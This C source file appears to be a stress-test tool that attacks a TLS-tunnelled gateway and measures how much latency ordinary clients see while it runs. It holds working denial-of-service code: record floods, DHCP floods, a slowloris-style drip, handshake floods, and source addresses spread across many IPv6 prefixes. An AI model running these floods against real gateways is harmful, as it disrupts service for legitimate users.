/* SPDX-License-Identifier: GPL-2.0-or-later */
/* libs: -lssl -lcrypto */
/*
 * What strangers do to an EFTF, and what a UE sees of it meanwhile.
 *
 *   gw-attack MODE ADDRESS PORT SECONDS [N [SOURCE_PREFIX]]
 *
 * Modes, each for so many seconds, over N connections at a time:
 *   empty       TLS, then empty records as fast as they are taken
 *   octets      TLS, then an endless envelope in records of one octet
 *   discover    TLS, then DHCPDISCOVERs without a pause
 *   drip        one octet of a ClientHello a second
 *   handshake   TLS handshakes one after the other, N of them open
 *   silent      N new connections a second that say nothing and stay
 *   measure     N UEs one after the other, with a pause: TLS, DISCOVER, OFFER
 *
 * SOURCE_PREFIX (IPv6, /32, routed to this host): each connection comes from another /48 of it.
 * Prints "name value" lines; measure: ms of the fastest, the median, p99, and how many failed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/ssl.h>

#define RECORD_MAX 64
#define BATCH 512			/* records in one write */
#define PREFIXES 1000			/* /48s that connections come from */
#define ANSWER_MS 10000

struct link {
	int fd;
	SSL *ssl;
	bool planned;			/* a connection attempt in its place is due */
	uint8_t key[16], iv[12];
	uint64_t seq;
};

static struct sockaddr_storage target;
static socklen_t target_len;
static const char *source_prefix;
static SSL_CTX *ctx;
static char secret_hex[2 * 32 + 1];
static unsigned long opened, refused, ended, records;

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void die(const char *what)
{
	fprintf(stderr, "gw-attack: %s: %s\n", what, strerror(errno));
	exit(2);
}

static void bind_source(int fd)
{
	static uint32_t count;
	struct sockaddr_in6 from = { .sin6_family = AF_INET6 };
	uint32_t n = count++;
	int one = 1;

	if (!source_prefix || inet_pton(AF_INET6, source_prefix, &from.sin6_addr) != 1)
		return;
	from.sin6_addr.s6_addr[4] = (uint8_t)(n % PREFIXES >> 8);
	from.sin6_addr.s6_addr[5] = (uint8_t)(n % PREFIXES);
	for (int i = 6; i < 16; i++)
		from.sin6_addr.s6_addr[i] = (uint8_t)rand();
	setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&from, sizeof(from)))
		die("bind");
}

/* A connection attempt that has begun. */
static int begin_connect(void)
{
	int fd = socket(target.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), one = 1;

	if (fd < 0)
		die("socket");
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	bind_source(fd);
	if (connect(fd, (struct sockaddr *)&target, target_len) && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	opened++;
	return fd;
}

static bool wait_for(int fd, short events, double until)
{
	struct pollfd pfd = { .fd = fd, .events = events };
	int ms = (int)((until - now()) * 1000);

	return ms > 0 && poll(&pfd, 1, ms) > 0;
}

static void on_keylog(const SSL *ssl, const char *line)
{
	static const char label[] = "CLIENT_TRAFFIC_SECRET_0 ";
	const char *space;

	(void)ssl;
	if (strncmp(line, label, sizeof(label) - 1))
		return;
	space = strrchr(line, ' ');
	snprintf(secret_hex, sizeof(secret_hex), "%s", space + 1);
}

/* RFC 8446 7.1, SHA-256 */
static void expand(const uint8_t secret[32], const char *label, uint8_t *out, size_t len)
{
	uint8_t info[64];
	size_t n = strlen(label);
	EVP_PKEY_CTX *kdf = EVP_PKEY_CTX_new_id(EVP_PKEY_HKDF, NULL);

	info[0] = 0;
	info[1] = (uint8_t)len;
	info[2] = (uint8_t)(6 + n);
	memcpy(info + 3, "tls13 ", 6);
	memcpy(info + 9, label, n);
	info[9 + n] = 0;
	if (!kdf || EVP_PKEY_derive_init(kdf) <= 0 ||
	    EVP_PKEY_CTX_set_hkdf_mode(kdf, EVP_PKEY_HKDEF_MODE_EXPAND_ONLY) <= 0 ||
	    EVP_PKEY_CTX_set_hkdf_md(kdf, EVP_sha256()) <= 0 ||
	    EVP_PKEY_CTX_set1_hkdf_key(kdf, secret, 32) <= 0 ||
	    EVP_PKEY_CTX_add1_hkdf_info(kdf, info, (int)(10 + n)) <= 0 ||
	    EVP_PKEY_derive(kdf, out, &len) <= 0)
		die("HKDF");
	EVP_PKEY_CTX_free(kdf);
}

static void link_close(struct link *l)
{
	SSL_free(l->ssl);
	if (l->fd >= 0)
		close(l->fd);
	*l = (struct link){ .fd = -1 };
}

/* Connection and handshake, waiting until a moment. */
static bool link_open(struct link *l, double until)
{
	uint8_t secret[32];
	int ret = 0;

	*l = (struct link){ .fd = begin_connect() };
	if (l->fd < 0 || !wait_for(l->fd, POLLOUT, until))
		return false;
	l->ssl = SSL_new(ctx);
	SSL_set_fd(l->ssl, l->fd);
	while ((ret = SSL_connect(l->ssl)) != 1) {
		int why = SSL_get_error(l->ssl, ret);

		if ((why != SSL_ERROR_WANT_READ && why != SSL_ERROR_WANT_WRITE) ||
		    !wait_for(l->fd, why == SSL_ERROR_WANT_READ ? POLLIN : POLLOUT, until))
			return false;
	}
	for (int i = 0; i < 32; i++)
		sscanf(secret_hex + (size_t)2 * i, "%2hhx", &secret[i]);
	expand(secret, "key", l->key, sizeof(l->key));
	expand(secret, "iv", l->iv, sizeof(l->iv));
	return true;
}

/* One record of TLS 1.3, AES-128-GCM. Returns its length. */
static size_t seal(struct link *l, const void *data, size_t len, uint8_t *out)
{
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	uint8_t nonce[12], text[RECORD_MAX];
	int n = 0;

	memcpy(text, data, len);
	text[len++] = 23;
	memcpy(nonce, l->iv, sizeof(nonce));
	for (int i = 0; i < 8; i++)
		nonce[11 - i] ^= (uint8_t)(l->seq >> 8 * i);
	l->seq++;
	memcpy(out, (uint8_t[]){ 23, 3, 3, 0, (uint8_t)(len + 16) }, 5);
	if (!c || EVP_EncryptInit_ex(c, EVP_aes_128_gcm(), NULL, l->key, nonce) != 1 ||
	    EVP_EncryptUpdate(c, NULL, &n, out, 5) != 1 ||
	    EVP_EncryptUpdate(c, out + 5, &n, text, (int)len) != 1 ||
	    EVP_EncryptFinal_ex(c, out + 5 + n, &n) != 1 ||
	    EVP_CIPHER_CTX_ctrl(c, EVP_CTRL_GCM_GET_TAG, 16, out + 5 + len) != 1)
		die("AES-GCM");
	EVP_CIPHER_CTX_free(c);
	return 5 + len + 16;
}

static bool write_all(int fd, const uint8_t *p, size_t len, double until)
{
	while (len) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL | MSG_DONTWAIT);

		if (n > 0) {
			p += n;
			len -= (size_t)n;
		} else if (errno != EAGAIN || !wait_for(fd, POLLOUT, until)) {
			return false;
		}
	}
	return true;
}

static size_t discover(uint8_t *out, uint32_t xid);

/* N connections take turns; one that the gateway has ended begins anew. */
static void flood(const char *mode, double until, unsigned int n)
{
	static uint8_t batch[BATCH * RECORD_MAX];
	struct link *l = calloc(n, sizeof(*l));
	uint8_t packet[512];

	for (unsigned int i = 0; i < n; i++)
		l[i].fd = -1;
	for (unsigned int i = 0; now() < until; i = (i + 1) % n) {
		size_t len = 0;
		bool ok = true;

		if (l[i].fd < 0 && !link_open(&l[i], until)) {
			link_close(&l[i]);
			refused++;
			continue;
		}
		if (!strcmp(mode, "discover")) {
			for (int k = 0; ok && k < 32; k++, records++) {
				len = discover(packet, (uint32_t)rand());
				ok = SSL_write(l[i].ssl, packet, (int)len) > 0;
			}
		} else {
			for (int k = 0; k < BATCH; k++, records++) {
				/* of an envelope: type 2, length 65535 */
				static const uint8_t head[] = { 1, 0xff, 0xff };
				bool empty = !strcmp(mode, "empty");

				len += seal(&l[i], k < 3 && !l[i].planned ? &head[k] : head,
					    empty ? 0 : 1, batch + len);
			}
			l[i].planned = true;
			ok = write_all(l[i].fd, batch, len, until);
		}
		if (!ok) {
			ended++;
			link_close(&l[i]);
		}
	}
}

static void drip(double until, unsigned int n)
{
	static const uint8_t hello[] = { 22, 3, 1, 1, 0, 1, 0, 0, 252, 3, 3 };
	int *fd = calloc(n, sizeof(*fd));

	for (unsigned int i = 0; i < n; i++)
		fd[i] = -1;
	for (unsigned int round = 0; now() < until; round++) {
		for (unsigned int i = 0; i < n; i++) {
			uint8_t octet = round < sizeof(hello) ? hello[round] : 0;

			if (fd[i] < 0)
				fd[i] = begin_connect();
			if (fd[i] >= 0 && send(fd[i], &octet, 1, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 &&
			    errno != EAGAIN && errno != ENOTCONN) {
				close(fd[i]);
				fd[i] = -1;
				ended++;
			}
			if (i % 20 == 19)
				usleep(1000000 / (n / 20 + 1));
		}
	}
}

static void handshakes(double until, unsigned int n)
{
	struct link *l = calloc(n, sizeof(*l));

	for (unsigned int i = 0; i < n; i++)
		l[i].fd = -1;
	for (unsigned int i = 0; now() < until; i = (i + 1) % n) {
		link_close(&l[i]);
		if (!link_open(&l[i], now() + 1)) {
			refused++;
			link_close(&l[i]);
		}
	}
}

static void silent(double until, unsigned int rate)
{
	double start = now();

	while (now() < until) {
		/* a machine that is slower than the rate never catches up */
		while (now() < until && opened < (now() - start) * rate)
			if (begin_connect() < 0)
				refused++;
		usleep(1000);
	}
}

static uint16_t checksum(const uint8_t *p, size_t len)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* An envelope with an IPv4 packet with a DHCPDISCOVER. */
static size_t discover(uint8_t *out, uint32_t xid)
{
	static const uint8_t options[] = { 0x63, 0x82, 0x53, 0x63, 53, 1, 1, 61, 5, 255 };
	const size_t dhcp = 236 + sizeof(options) + 5, total = 28 + dhcp;
	uint8_t *ip = out + 3, *udp = ip + 20, *msg = udp + 8;
	uint16_t sum;

	memset(out, 0, 3 + total);
	memcpy(out, (uint8_t[]){ 1, (uint8_t)((total + 3) >> 8), (uint8_t)(total + 3) }, 3);
	memcpy(ip, (uint8_t[]){ 0x45, 0, (uint8_t)(total >> 8), (uint8_t)total, 0, 0, 0, 0, 64, 17,
				0, 0, 0, 0, 0, 0, 255, 255, 255, 255 }, 20);
	sum = checksum(ip, 20);
	ip[10] = (uint8_t)(sum >> 8);
	ip[11] = (uint8_t)sum;
	memcpy(udp, (uint8_t[]){ 0, 68, 0, 67, (uint8_t)((dhcp + 8) >> 8), (uint8_t)(dhcp + 8) }, 6);
	memcpy(msg, (uint8_t[]){ 1, 1, 6 }, 3);
	memcpy(msg + 4, &xid, 4);
	memcpy(msg + 28, &xid, 4);
	memcpy(msg + 236, options, sizeof(options));
	memcpy(msg + 236 + sizeof(options), &xid, 4);
	msg[236 + sizeof(options) + 4] = 255;
	return total + 3;
}

/* Returns ms, or -1. */
static double one_ue(void)
{
	double start = now(), until = start + ANSWER_MS / 1000.0;
	uint8_t packet[512], answer[2048];
	struct link l;
	double took = -1;
	int n = 0;

	if (link_open(&l, until) &&
	    SSL_write(l.ssl, packet, (int)discover(packet, (uint32_t)rand())) > 0) {
		while ((n = SSL_read(l.ssl, answer, sizeof(answer))) <= 0 &&
		       SSL_get_error(l.ssl, n) == SSL_ERROR_WANT_READ &&
		       wait_for(l.fd, POLLIN, until))
			;
		if (n > 0)
			took = (now() - start) * 1000;
	}
	link_close(&l);
	return took;
}

static int ascending(const void *a, const void *b)
{
	double d = *(const double *)a - *(const double *)b;

	return d < 0 ? -1 : d > 0;
}

static void measure(double until, unsigned int n)
{
	double *ms = calloc(n, sizeof(*ms));
	unsigned int good = 0, failed = 0;

	while (now() < until && good + failed < n) {
		double took = one_ue();

		if (took < 0)
			failed++;
		else
			ms[good++] = took;
		usleep(50000);
	}
	qsort(ms, good, sizeof(*ms), ascending);
	printf("least %.0f\nmedian %.0f\np99 %.0f\ngood %u\nfailed %u\n", good ? ms[0] : -1,
	       good ? ms[good / 2] : -1, good ? ms[(good * 99 + 99) / 100 - 1] : -1, good, failed);
}

static void set_up(const char *address, const char *port)
{
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)&target;
	struct sockaddr_in *in4 = (struct sockaddr_in *)&target;
	struct rlimit files = { 100000, 100000 };

	setrlimit(RLIMIT_NOFILE, &files);
	signal(SIGPIPE, SIG_IGN);
	target.ss_family = strchr(address, ':') ? AF_INET6 : AF_INET;
	in6->sin6_port = htons((uint16_t)atoi(port));	/* at the same place in both */
	if (inet_pton(target.ss_family, address, target.ss_family == AF_INET6 ?
		      (void *)&in6->sin6_addr : (void *)&in4->sin_addr) != 1)
		die(address);
	target_len = target.ss_family == AF_INET6 ? sizeof(*in6) : sizeof(*in4);
	ctx = SSL_CTX_new(TLS_client_method());
	if (!ctx || SSL_CTX_set_ciphersuites(ctx, "TLS_AES_128_GCM_SHA256") != 1 ||
	    SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION) != 1)
		die("TLS");
	SSL_CTX_set_keylog_callback(ctx, on_keylog);
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	unsigned int n = argc > 5 ? (unsigned int)atoi(argv[5]) : 1;
	double until;

	if (argc < 5 || argc > 7 || !n) {
		fprintf(stderr, "usage: gw-attack MODE ADDRESS PORT SECONDS [N [SOURCE_PREFIX]]\n");
		return 2;
	}
	source_prefix = argc > 6 ? argv[6] : NULL;
	set_up(argv[2], argv[3]);
	until = now() + atof(argv[4]);
	if (!strcmp(mode, "empty") || !strcmp(mode, "octets") || !strcmp(mode, "discover")) {
		flood(mode, until, n);
	} else if (!strcmp(mode, "drip")) {
		drip(until, n);
	} else if (!strcmp(mode, "handshake")) {
		handshakes(until, n);
	} else if (!strcmp(mode, "silent")) {
		silent(until, n);
	} else if (!strcmp(mode, "measure")) {
		measure(until, n);
		return 0;
	} else {
		fprintf(stderr, "gw-attack: no mode %s\n", mode);
		return 2;
	}
	printf("opened %lu\nrefused %lu\nended %lu\nrecords %lu\n", opened, refused, ended, records);
	return 0;
}
